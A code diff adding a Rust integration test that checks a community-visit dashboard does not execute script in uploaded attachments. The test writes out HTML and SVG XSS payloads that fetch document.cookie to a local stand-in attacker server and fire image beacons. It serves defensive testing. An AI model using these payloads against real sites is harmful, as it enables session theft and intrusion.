@@ -1571,3 +1571,130 @@ async fn a_user_changes_their_password_and_an_administrator_disables_accounts_an
     );
     assert!(session_of(&base, &login, "a-brand-new-password").await.is_none(), "cannot sign in");
 }
+
+/// A listener on 127.0.0.1 standing for an attacker's server: it reports the path of every
+/// request it receives, in order of arrival.
+fn beacon() -> (String, std::sync::mpsc::Receiver<String>) {
+    use std::io::{BufRead, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+    let url = format!("http://{}", listener.local_addr().expect("addr"));
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(stream) = stream else { return };
+            let tx = tx.clone();
+            // A connection of its own each: a browser may open one and send nothing on it.
+            std::thread::spawn(move || {
+                let mut reader = std::io::BufReader::new(stream);
+                let mut line = String::new();
+                if reader.read_line(&mut line).is_ok() {
+                    let path = line.split_whitespace().nth(1).unwrap_or("").to_owned();
+                    let _ = tx.send(path);
+                    let mut stream = reader.into_inner();
+                    let _ = stream.write_all(
+                        b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
+                    );
+                }
+            });
+        }
+    });
+    (url, rx)
+}
+
+#[tokio::test]
+async fn a_hostile_attachment_runs_no_script_when_an_administrator_opens_it() {
+    let server = TestServer::start();
+    let storage = server.storage();
+    let base = server.url.clone();
+    let g = storage.create_grid("第一网格", "幸福社区", "城关街道").expect("grid");
+    let worker = member(&*storage, "王芳", Role::GridWorker, &[g]);
+    let admin = member(&*storage, "管理员", Role::Admin, &[]);
+    let password = "correct horse battery staple";
+    let hash = doorstep_server::auth::hash_password(password).expect("hash");
+    storage.create_staff_account(admin, "admin", &hash, doorstep_server::http::now()).expect("account");
+    let (attacker, requests) = beacon();
+
+    // A phone declares its own media types: an HTML page and an SVG, both with script.
+    let script = |tag: &str| {
+        format!(
+            "localStorage.setItem('pwned','{tag}');document.title='PWNED';\
+             fetch('{attacker}/{tag}-fetch?c='+encodeURIComponent(document.cookie));\
+             new Image().src='{attacker}/{tag}-image';"
+        )
+    };
+    let html = format!(
+        "<!doctype html><html><body><h1 id=\"hostile\">photo</h1><script>{}</script>\
+         <img src=\"{attacker}/html-tag\"></body></html>",
+        script("html")
+    );
+    let svg = format!(
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{}\"><script>{}</script>\
+         <image href=\"{attacker}/svg-tag\" width=\"10\" height=\"10\"/></svg>",
+        script("svg-onload").replace('\'', "&apos;"),
+        script("svg")
+    );
+    let dir = devices_dir();
+    let mut phone = device(&server, dir.path(), "worker", worker).await;
+    let home = phone.create_household(&household(g, "301", "陈奶奶"), t(0)).expect("household");
+    let visit = doorstep_core::model::NewVisit {
+        at: t(1),
+        kind: doorstep_core::model::VisitKind::Routine,
+        notes: "走访".into(),
+        needs: vec![],
+    };
+    let vid = phone.record_visit(home, &visit).expect("visit");
+    let hostile = [("text/html", "现场.jpg", html), ("image/svg+xml", "现场.svg", svg)];
+    for (media_type, name, bytes) in &hostile {
+        let file = doorstep_core::model::NewAttachment {
+            media_type: (*media_type).into(),
+            name: (*name).into(),
+            bytes: bytes.clone().into_bytes(),
+        };
+        phone.attach_to_visit(home, vid, &file, t(2)).expect("attach");
+    }
+    server.client().sync(&mut phone).await.expect("records");
+    let mut access = &mut phone;
+    let report = server
+        .client()
+        .transfer_attachments(
+            &mut access,
+            &doorstep_client::TransferOptions::default(),
+            &mut doorstep_client::NoTransferObserver,
+        )
+        .await
+        .expect("upload");
+    assert!(report.failed.is_empty(), "{:?}", report.failed);
+
+    // The administrator opens the household and then each "photo".
+    let browser = Browser::start().await;
+    let client = browser.client();
+    sign_in(client, &base, "admin", password).await;
+    wait_for_url(client, "/dashboard/overview").await;
+    client.goto(&format!("{base}/dashboard/households/{home}")).await.expect("household page");
+    let mut links = Vec::new();
+    for a in client.find_all(Locator::Css(".attachments a")).await.expect("links") {
+        links.push(a.attr("href").await.expect("href").expect("an href"));
+    }
+    assert_eq!(links.len(), 2, "both attachments are linked");
+    for link in &links {
+        // A file served for download ends the navigation without a page: that is fine.
+        let _ = client.goto(&format!("{base}{link}")).await;
+        let title = client.title().await.unwrap_or_default();
+        assert_ne!(title, "PWNED", "{link}: the attachment's script ran");
+    }
+    // Nothing left the page: the first request the attacker's server sees is our own marker.
+    client.goto(&format!("{attacker}/end")).await.expect("the marker page");
+    let first = tokio::task::spawn_blocking(move || requests.recv_timeout(WAIT))
+        .await
+        .expect("join")
+        .expect("the marker request arrives");
+    assert_eq!(first, "/end", "a hostile attachment sent a request out of the dashboard");
+    // And no script ran in the dashboard's origin.
+    client.goto(&format!("{base}/dashboard/overview")).await.expect("overview");
+    let marker = client
+        .execute("return window.localStorage.getItem('pwned');", vec![])
+        .await
+        .expect("read the marker");
+    assert_eq!(marker, serde_json::Value::Null, "the attachment's script ran in the dashboard's origin");
+    browser.close().await;
+}
